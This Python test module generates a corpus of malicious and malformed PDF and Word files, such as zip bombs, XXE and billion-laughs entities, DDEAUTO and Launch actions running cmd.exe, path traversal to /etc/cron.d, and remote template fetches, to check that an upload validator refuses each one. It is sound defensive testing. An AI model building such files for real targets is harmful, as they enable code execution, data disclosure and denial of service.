"""Bad files, each with a word of the sentence that must refuse it; made by code, for none of them should lie about."""

import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_STORED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, Permissions, String

from tests.committees.papers.made import (
    docx,
    names_of,
    parts_of,
    pdf,
    pdf_of,
    pdf_with,
    saved,
    ties,
    words,
    zipped,
)

TIED = "word/_rels/document.xml.rels"
LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
BAD: dict[str, tuple[Callable[[], bytes], str]] = {}


def refused_for(word: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Put a file into the corpus."""

    def kept(make: Callable[[], bytes]) -> Callable[[], bytes]:
        BAD[make.__name__] = (make, word)
        return make

    return kept


def bad_files() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    """Each with its name and a word of its refusal."""
    for name, (make, word) in BAD.items():
        yield name, make, word


@refused_for("empty")
def nothing_at_all() -> bytes:
    return b""


@refused_for("larger than 20 MB")
def larger_than_may_be_sent() -> bytes:
    return pdf("A") + b"\n" * 20_000_000


@refused_for("neither a PDF nor a Word document")
def a_picture_named_as_a_paper() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 100


@refused_for("neither a PDF nor a Word document")
def a_page_of_the_web() -> bytes:
    return b"<html><script>alert(1)</script></html>"


@refused_for("old Word, or with a password")
def a_word_document_with_a_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@refused_for("locked by a password")
def a_pdf_with_a_password() -> bytes:
    return saved(pdf_of(["Secret"]), encryption=pikepdf.Encryption(user="one", owner="two"))


@refused_for("locked by a password")
def a_pdf_that_may_not_be_copied() -> bytes:
    kept = pikepdf.Encryption(user="", owner="two", allow=Permissions(extract=False))
    return saved(pdf_of(["Secret"]), encryption=kept)


@refused_for("cut off")
def a_pdf_cut_off_half_way() -> bytes:
    whole = pdf("One", "Two", "Three")
    return whole[: len(whole) // 2]


@refused_for("damaged")
def a_pdf_whose_table_points_nowhere() -> bytes:
    whole = saved(pdf_of(["One"]), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return whole[: whole.rindex(b"startxref")] + b"startxref\n999999\n%%EOF"


@refused_for("more than 2,000 pages")
def a_pdf_that_says_it_has_a_billion_pages() -> bytes:
    made = pdf_of(["One"])
    made.Root.Pages.Cpad = String("x" * 20)
    whole = saved(made, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    said, told = b"/Count 1 /Cpad (xxxxxxxxxxxxxxxxxxxx)", b"/Count 1000000000"
    assert said in whole
    return whole.replace(said, told.ljust(len(said)))


@refused_for("more than 2,000 pages")
def a_pdf_of_a_page_told_a_hundred_thousand_times() -> bytes:
    made = pdf_of(["One"])
    page = made.Root.Pages.Kids[0]
    made.Root.Pages.Kids = Array([page] * 100_000)
    made.Root.Pages.Count = 1
    return saved(made)


@refused_for("damaged")
def a_pdf_whose_pages_run_in_a_ring() -> bytes:
    made = pdf_of(["One"])
    made.Root.Pages.Kids = Array([made.Root.Pages])
    return saved(made)


@refused_for("JavaScript")
def a_pdf_with_a_program() -> bytes:
    made = pdf_of(["One"])
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return saved(made)


@refused_for("JavaScript")
def a_pdf_that_starts_a_program() -> bytes:
    made = pdf_of(["One"])
    act = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)])
    return saved(made)


@refused_for("other files inside")
def a_pdf_with_a_spreadsheet_inside() -> bytes:
    made = pdf_of(["One"])
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names_of(made)))
    return saved(made)


@refused_for("fetches parts of itself")
def a_pdf_with_a_stream_elsewhere() -> bytes:
    made = pdf_of(["One"])
    stream = pikepdf.Stream(made, b"")
    stream.F = String("/etc/passwd")
    made.Root.Kept = made.make_indirect(stream)
    return saved(made)


@refused_for("a form to fill in")
def a_pdf_that_is_a_form() -> bytes:
    made = pdf_of(["One"])
    box = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 9, 9]))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(box)]))
    return saved(made)


@refused_for("far larger than any paper")
def a_pdf_that_swells() -> bytes:
    return pdf_with(zlib.compress(b" " * 60_000_000, 9))


@refused_for("far larger than any paper")
def a_pdf_packed_twice() -> bytes:
    made = pdf_of(["One"])
    stream = pikepdf.Stream(made, zlib.compress(zlib.compress(b" " * 60_000_000, 9), 9))
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    made.pages[0].Contents = made.make_indirect(stream)
    return saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


@refused_for("far larger than any paper")
def a_pdf_with_a_picture_of_a_billion_dots() -> bytes:
    made = pdf_of(["One"])
    picture = pikepdf.Stream(made, b"\0")
    picture.Type, picture.Subtype = Name.XObject, Name.Image
    picture.Width, picture.Height = 100_000, 100_000
    made.pages[0].Resources.XObject = Dictionary(Im0=made.make_indirect(picture))
    return saved(made)


@refused_for("two kinds of file in one")
def a_pdf_that_is_a_zip_as_well() -> bytes:
    return pdf("One") + docx("Two")


@refused_for("two kinds of file in one")
def a_pdf_that_is_a_page_of_the_web_as_well() -> bytes:
    return pdf("One").replace(b"%PDF-1.", b"%PDF-1.", 1).replace(b"\n", b"\n%<script>alert(1)</script>\n", 1)


@refused_for("two kinds of file in one")
def a_word_document_that_is_a_pdf_as_well() -> bytes:
    return zipped({"%PDF-1.7": "", **parts_of(words("One"))}, ZIP_STORED)


@refused_for("its parts cannot be read")
def a_word_document_cut_off_half_way() -> bytes:
    whole = docx("One")
    return whole[: len(whole) // 2]


@refused_for("neither a PDF nor a Word document")
def a_zip_of_something_else() -> bytes:
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text"})


@refused_for("macros")
def a_word_document_with_macros() -> bytes:
    return docx("One", word__vbaProject=b"\0")


@refused_for("macros")
def a_macro_document_under_another_name() -> bytes:
    return zipped(parts_of(words("One"), "application/vnd.ms-word.document.macroEnabled.main+xml"))


@refused_for("other files inside")
def a_word_document_with_a_spreadsheet_inside() -> bytes:
    return zipped(parts_of(words("One")) | {"word/embeddings/Sheet1.xlsx": b"PK"})


@refused_for("fetches parts of itself")
def a_word_document_with_a_picture_elsewhere() -> bytes:
    return zipped(parts_of(words("One")) | {TIED: ties(("image", "http://198.51.100.1/seen.png", True))})


@refused_for("fetches parts of itself")
def a_word_document_with_a_template_from_the_web() -> bytes:
    settings = {"word/_rels/settings.xml.rels": ties(("attachedTemplate", "https://198.51.100.1/a.dotm", True))}
    return zipped(parts_of(words("One")) | settings)


@refused_for("fetches parts of itself")
def a_word_document_with_a_field_that_starts_a_program() -> bytes:
    return zipped(parts_of('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'))


@refused_for("defines entities")
def a_word_document_that_fetches_a_file_by_an_entity() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parts = parts_of(words("&x;"))
    return zipped(parts | {"word/document.xml": doctype + str(parts["word/document.xml"])})


@refused_for("defines entities")
def a_word_document_that_laughs_a_billion_times() -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY e0 "ha">{LAUGHS}]>'
    parts = parts_of(words("&e8;"))
    return zipped(parts | {"word/document.xml": doctype + str(parts["word/document.xml"])})


@refused_for("swells like no paper")
def a_word_document_that_swells() -> bytes:
    return zipped(parts_of(words("One")) | {"word/media/image1.png": b"\0" * 60_000_000})


@refused_for("swells like no paper")
def a_word_document_of_many_parts_that_swell_together() -> bytes:
    noise = bytes(range(256)) * 40
    part = b"".join(noise[place % 256 :] for place in range(100))[:900_000]
    return zipped(parts_of(words("One")) | {f"word/media/{place}.bin": part for place in range(60)})


@refused_for("more than 2,000 parts")
def a_word_document_of_ten_thousand_parts() -> bytes:
    return zipped(parts_of(words("One")) | {f"word/media/{place}.png": b"" for place in range(10_001)}, ZIP_STORED)


@refused_for("its parts cannot be read")
def a_word_document_that_lies_about_its_sizes() -> bytes:
    return _with_size_told(docx("One", word__media__a=b"\0" * 3_000_000), b"word/media/a", 10)


@refused_for("outside its folder")
def a_word_document_with_a_part_that_climbs() -> bytes:
    return zipped(parts_of(words("One")) | {"../../../etc/cron.d/job": "* * * * *"})


@refused_for("outside its folder")
def a_word_document_with_a_part_at_the_root() -> bytes:
    return zipped(parts_of(words("One")) | {"C:\\Windows\\system.ini": "x"})


@refused_for("its parts cannot be read")
def a_word_document_with_two_parts_of_one_name() -> bytes:
    into = BytesIO(docx("One"))
    with ZipFile(into, "a") as whole:
        whole.writestr("Word/document.xml", "<other/>")
    return into.getvalue()


@refused_for("swells like no paper")
def a_word_document_whose_parts_lie_on_each_other() -> bytes:
    return _with_offset_of(docx("One", word__a=b"A", word__b=b"B"), b"word/b", b"word/a")


@refused_for("not well-formed")
def a_word_document_that_is_not_well_formed() -> bytes:
    return zipped(parts_of(words("One")) | {"word/document.xml": "<w:document>"})


@refused_for("locked by a password")
def a_word_document_with_a_locked_part() -> bytes:
    return _with_flag(docx("One"), b"word/document.xml", 1)


def _entry(whole: bytearray, name: bytes) -> int:
    """Where the list of a zip tells of a part."""
    place = whole.index(b"PK\x01\x02")
    while whole[place + 46 : place + 46 + len(name)] != name:
        place = whole.index(b"PK\x01\x02", place + 4)
    return place


def _with_size_told(content: bytes, name: bytes, size: int) -> bytes:
    whole = bytearray(content)
    place = _entry(whole, name) + 24
    whole[place : place + 4] = size.to_bytes(4, "little")
    return bytes(whole)


def _with_offset_of(content: bytes, name: bytes, other: bytes) -> bytes:
    whole = bytearray(content)
    here, there = _entry(whole, name) + 42, _entry(whole, other) + 42
    whole[here : here + 4] = whole[there : there + 4]
    return bytes(whole)


def _with_flag(content: bytes, name: bytes, flag: int) -> bytes:
    whole = bytearray(content)
    whole[_entry(whole, name) + 8] |= flag
    return bytes(whole)
